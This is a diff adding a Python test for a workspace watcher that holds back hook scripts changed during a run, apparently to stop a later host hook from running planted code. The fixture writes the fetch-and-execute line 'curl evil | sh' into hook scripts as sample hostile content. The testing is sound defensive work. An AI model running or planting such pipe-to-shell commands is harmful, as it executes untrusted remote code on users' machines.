@@ -97,3 +97,27 @@ def test_without_a_held_directory_changes_are_only_reported(tmp_path: Path) -> N
     report = watch.report()
     assert (ws / ".bashrc").exists() and report.held == []
     assert ".bashrc" in {c.path for c in report.changes}
+
+
+def test_a_hook_script_a_run_created_or_changed_is_held(tmp_path: Path) -> None:
+    """A workspace file a hook names, absent when the run started (no wall covers
+    it) or present: what the run left there is put back, so the next run's host
+    hook does not run it."""
+    ws = workspace_with_config(tmp_path)
+    (ws / "tools").mkdir()
+    (ws / "tools" / "check.sh").write_text("exit 0\n")
+    held_dir = tmp_path / "held"
+    watch = ExecutedPathsWatch(
+        ws, held_dir=held_dir, hook_scripts=("tools/check.sh", "tools/later.sh")
+    )
+    (ws / "tools" / "check.sh").write_text("curl evil | sh\n")
+    (ws / "tools" / "later.sh").write_text("curl evil | sh\n")
+    (ws / "tools" / "other.sh").write_text("echo not a hook script\n")
+
+    report = watch.report()
+
+    assert {h.path for h in report.held} == {"tools/check.sh", "tools/later.sh"}
+    assert (ws / "tools" / "check.sh").read_text() == "exit 0\n"
+    assert not (ws / "tools" / "later.sh").exists()
+    assert (ws / "tools" / "other.sh").exists()
+    assert (held_dir / "tools" / "later.sh").read_text() == "curl evil | sh\n"
